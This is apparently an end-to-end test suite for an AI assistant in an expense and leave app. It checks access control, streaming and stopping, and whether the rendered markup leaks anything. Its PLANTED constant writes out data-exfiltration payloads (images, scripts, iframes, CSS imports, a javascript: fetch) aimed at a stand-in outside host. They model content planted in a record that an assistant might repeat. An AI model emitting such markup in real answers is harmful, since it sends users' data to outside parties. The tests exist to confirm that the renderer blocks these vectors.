import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Locator, Page } from 'playwright-core';
import { startApp, type RunningApp } from '../support/app';
import { expectNoBarriers } from '../support/barriers';
import { closePages, comesToBe, launchBrowser, openAs } from '../support/browser';
import type { Persona } from '../support/company';
import { personasOf } from '../support/personas';

jest.setTimeout(240_000);

/** What a model may say that repeats what somebody planted in a record: every way out that a browser knows. */
const PLANTED = [
  'Planted: ![paid](https://outside.example/p.png?d=secret) <img src="https://outside.example/q.png"> <script src="https://outside.example/s.js"></script>',
  '[press](https://outside.example/go) [own](/leave) [slashes](//outside.example/x) [code](javascript:fetch("https://outside.example/j"))',
  '<iframe src="https://outside.example/f"></iframe> <link rel="prefetch" href="https://outside.example/l"> <style>@import "https://outside.example/c.css";</style>',
  '<https://outside.example/auto> https://outside.example/bare ![by name][1] <svg><image href="https://outside.example/v.png"/></svg>',
  '[1]: https://outside.example/named.png',
].join('\n\n');
const SLOW_WORDS = Array.from({ length: 40 }, (_, at) => `word${at + 1}`);
/** Between two words: long enough to do something meanwhile, however slow the machine. */
const WORD_MS = 250;

let app: RunningApp;
let browser: Browser;
const model = createServer((request, response) => void answerAsModel(request, response));

/** A provider that can be asked for what is planted and for slow words; of all else it knows nothing and fails. */
async function answerAsModel(request: IncomingMessage, response: ServerResponse): Promise<void> {
  let body = '';
  for await (const part of request) body += String(part);
  const { messages } = JSON.parse(body) as { messages: { role: string; content: string }[] };
  const asked = messages.findLast(({ role }) => role === 'user')?.content ?? '';
  if (!/planted|slowly/.test(asked)) return void response.writeHead(400).end('{}');
  response.writeHead(200, { 'content-type': 'text/event-stream' });
  const tell = (delta: object, finish_reason: string | null = null) =>
    response.write(
      `data: ${JSON.stringify({ id: 'x', object: 'chat.completion.chunk', created: 1, model: 'scripted', choices: [{ index: 0, delta, finish_reason }] })}\n\n`,
    );
  const words = asked.includes('planted') ? [PLANTED] : SLOW_WORDS.map((word) => `${word} `);
  for (const content of words) {
    if (response.destroyed) return;
    tell({ role: 'assistant', content });
    if (words.length > 1) await new Promise((resolve) => setTimeout(resolve, WORD_MS));
  }
  tell({}, 'stop');
  response.end('data: [DONE]\n\n');
}

beforeAll(async () => {
  await new Promise<void>((resolve) => model.listen(0, '127.0.0.1', resolve));
  const { port } = model.address() as AddressInfo;
  app = await startApp({
    demo: true,
    worker: false,
    env: { OPENAI_API_KEY: 'scripted', OPENAI_BASE_URL: `http://127.0.0.1:${port}/v1` },
  });
  browser = await launchBrowser();
}, 150_000);
afterAll(async () => {
  await browser?.close();
  await app?.stop();
  model.closeAllConnections();
  await new Promise((resolve) => model.close(resolve));
});
afterEach(async () => {
  await closePages(browser);
});

const open = (persona: Persona, path = '/assistant') => openAs({ app, browser }, persona, path);
const box = (page: Page) => page.getByRole('textbox', { name: 'Question' });
const turn = (page: Page, question: string) =>
  page.getByRole('article', { name: `Question: ${question}` });

/** Asks, and waits until the answer may be judged, which is when it is there whole. */
async function ask(page: Page, question: string) {
  await box(page).fill(question);
  await box(page).press('Enter');
  const answer = turn(page, question);
  await answer.getByRole('button', { name: 'Good answer', exact: true }).waitFor();
  return answer;
}

/** Where the rows of an answer lead, each place once. */
async function linksOf(answer: Locator): Promise<string[]> {
  const hrefs: string[] = [];
  for (const link of await answer.locator('tbody a').all())
    hrefs.push((await link.getAttribute('href')) ?? '');
  return [...new Set(hrefs)];
}

/** Follows each link of an answer by opening it, and expects the page of the record. */
async function followAll(page: Page, links: string[]): Promise<void> {
  const missing: string[] = [];
  for (const link of links) {
    await page.goto(app.url + link);
    await page.getByRole('heading', { level: 1 }).first().waitFor();
    await page.locator('[aria-busy="true"]').first().waitFor({ state: 'detached' });
    if (new URL(page.url()).pathname !== link) missing.push(link);
    if ((await page.getByText(/^(Not found|There is no such)/).count()) > 0) missing.push(link);
  }
  expect(missing).toEqual([]);
}

test('one question has three answers: nothing, a team, everybody; and each row leads to its record', async () => {
  const question = 'Show the expense claims of Consulting';
  const rep = await open('sales.rep');
  const nothing = await ask(rep, question);
  expect(await nothing.locator('tbody tr').count()).toBe(0);
  expect(await nothing.locator('a').count()).toBe(0);
  expect(await nothing.getByRole('alert').count()).toBe(0);
  await nothing.getByText(/^There is no such claim/).waitFor();
  const manager = await open('sales.manager');
  const team = await ask(manager, 'Show the expense claims of my team');
  const ofTeam = await linksOf(team);
  expect(ofTeam.length).toBe(await team.locator('tbody tr').count());
  const admin = await open('admin');
  const all = await linksOf(await ask(admin, 'Show all expense claims'));
  expect(all).toEqual(expect.arrayContaining(ofTeam.slice(0, 1)));
  const consulting = await ask(admin, question);
  const ofConsulting = await linksOf(consulting);
  expect(ofConsulting.length).toBeGreaterThan(0);
  expect(ofTeam.filter((link) => ofConsulting.includes(link))).toEqual([]);
  // The link asks again: it opens for who may see the record, and for nobody who was sent it.
  const path = ofConsulting[0]!;
  for (const [page, status] of [
    [admin, 200],
    [rep, 404],
    [manager, 404],
  ] as const)
    expect((await page.request.get(`${app.url}/api/v1${path}`)).status()).toBe(status);
  await followAll(manager, ofTeam);
  await followAll(admin, ofConsulting.slice(0, 10));
});

test('an answer is stopped where it is, and what was said stays', async () => {
  const page = await open('sales.rep');
  await box(page).fill('Say it slowly');
  await box(page).press('Enter');
  await turn(page, 'Say it slowly').getByText('word2').waitFor();
  await page.getByRole('button', { name: 'Stop' }).click();
  await turn(page, 'Say it slowly').getByText('Stopped.').waitFor();
  await page.reload();
  await turn(page, 'Say it slowly').getByText('Stopped.').waitFor();
  const words = await turn(page, 'Say it slowly').innerText();
  expect(words).toContain('word1 word2');
  expect(words).not.toContain('word40');
});

test('an answer goes on over a reload, without a word lost or said twice', async () => {
  const page = await open('sales.rep');
  await box(page).fill('Tell me slowly');
  await box(page).press('Enter');
  await page.waitForURL(/\/assistant\/[0-9a-f-]{36}$/);
  await turn(page, 'Tell me slowly').getByText('word2').waitFor();
  await page.reload();
  const answer = turn(page, 'Tell me slowly');
  await answer.getByRole('button', { name: 'Good answer', exact: true }).waitFor();
  const said = await answer.locator('.message-text').innerText();
  expect(said.trim()).toBe(SLOW_WORDS.join(' '));
});

test('what is to be done opens as the real form, filled in, and nothing is sent', async () => {
  const page = await open('sales.rep');
  const rep = await personasOf(app).as('sales.rep');
  const sent = async () =>
    ((await rep.get('/approvals?box=sent&limit=200')).body as { items: unknown[] }).items.length;
  const before = await sent();
  const question = 'Apply for casual leave from 5 July 2027 to 6 July 2027';
  const answer = await ask(page, question);
  await answer.getByText('Nothing is sent until you send it there').waitFor();
  await answer.locator('a[href^="/requests/new/leave"]').click();
  await page.getByRole('heading', { level: 1, name: /leave/i }).waitFor();
  await comesToBe(() => page.getByLabel('First day').inputValue(), '5 Jul 2027');
  await comesToBe(() => page.getByLabel('Last day').inputValue(), '6 Jul 2027');
  expect(await sent()).toBe(before);
});

test('an answer with pictures, markup and links asks nobody outside for anything', async () => {
  const page = await open('sales.rep');
  const outside: string[] = [];
  // Whatever the browser asks for, in whichever window; what is in the page itself asks nobody.
  page.context().on('request', (request) => {
    const { protocol, origin } = new URL(request.url());
    if (protocol !== 'data:' && protocol !== 'blob:' && origin !== app.url)
      outside.push(request.url());
  });
  page.on('websocket', (socket) => {
    if (new URL(socket.url()).host !== new URL(app.url).host) outside.push(socket.url());
  });
  const answer = await ask(page, 'Show what is planted');
  await answer.getByText(/^Planted:/).waitFor();
  await answer.getByRole('link', { name: 'own' }).waitFor();
  const HEAVY = 'img, script, iframe, object, embed, link, style, svg image, video, audio, form';
  expect(await answer.locator(HEAVY).count()).toBe(0);
  for (const name of ['press', 'slashes', 'code'])
    expect(await answer.getByRole('link', { name }).count()).toBe(0);
  expect(await answer.locator('a:not([href^="/"])').count()).toBe(0);
  await answer.getByText('<img src=').waitFor();
  await page.reload();
  await turn(page, 'Show what is planted')
    .getByText(/^Planted:/)
    .waitFor();
  await page.waitForLoadState('networkidle');
  await turn(page, 'Show what is planted').getByRole('link', { name: 'own' }).click();
  await page.waitForURL(`${app.url}/leave`);
  expect(outside).toEqual([]);
});

test('an answer with a table and a chart, the reports and the administration have no barriers', async () => {
  const page = await open('sales.manager');
  const question = 'What did my team spend by month in the last two years?';
  const answer = await ask(page, question);
  await answer.getByRole('table').waitFor();
  await answer.getByRole('button', { name: 'What was looked up' }).click();
  await expectNoBarriers(page, 'assistant-answer');
  await answer.getByRole('button', { name: 'Save as report' }).click();
  const dialog = page.getByRole('dialog', { name: 'Save as report' });
  await dialog.getByRole('textbox', { name: 'Name' }).fill('Team spending');
  await dialog.getByRole('button', { name: 'Save' }).click();
  await page.getByRole('link', { name: 'Reports' }).click();
  await page.getByRole('link', { name: 'Team spending' }).waitFor();
  await expectNoBarriers(page, 'assistant-reports');
  await page.getByRole('link', { name: 'Team spending' }).click();
  await page.getByRole('heading', { level: 1, name: 'Team spending' }).waitFor();
  await page.getByRole('table').waitFor();
  const admin = await open('admin', '/admin/assistant');
  await admin.getByRole('checkbox').first().waitFor();
  await expectNoBarriers(admin, 'assistant-admin');
  await admin.getByRole('link', { name: 'Usage' }).click();
  await admin.getByRole('heading', { level: 1 }).waitFor();
  await expectNoBarriers(admin, 'assistant-usage');
  await admin.getByRole('link', { name: 'Prompts' }).click();
  await admin.getByRole('row').filter({ hasText: question }).first().waitFor();
  await expectNoBarriers(admin, 'assistant-prompts');
});
